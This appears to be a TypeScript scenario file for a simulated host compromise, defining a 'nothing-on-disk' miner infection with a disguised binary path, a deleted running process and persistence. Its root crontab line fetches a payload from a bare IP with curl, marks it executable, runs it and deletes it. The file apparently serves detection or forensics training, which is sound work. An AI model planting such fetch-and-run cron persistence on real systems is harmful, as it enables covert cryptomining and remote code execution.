import { type Infection, miner } from '../host-part.ts'

/** The program is gone from the disk once it runs; a job brings it back. */
export const nothingOnDisk: Infection = {
  family: 'nothing-on-disk',
  known: false,
  title: 'A program whose file is gone',
  story: ['The program was deleted once it ran.', 'A job in the crontab of root fetches it again from a bare address.'],
  items: [
    {
      kind: 'file',
      path: '/usr/lib/gvfs-metad',
      content: { lookalike: miner, words: 'gvfs' },
      mode: 0o755,
    },
    {
      kind: 'line',
      path: '/var/spool/cron/crontabs/root',
      text: '*/7 * * * * curl -so /usr/lib/gvfs-metad http://198.51.100.90/v && chmod 755 /usr/lib/gvfs-metad && /usr/lib/gvfs-metad; rm -f /usr/lib/gvfs-metad',
      mode: 0o600,
    },
    { kind: 'process', path: '/usr/lib/gvfs-metad', argv: [], deleted: true },
  ],
}
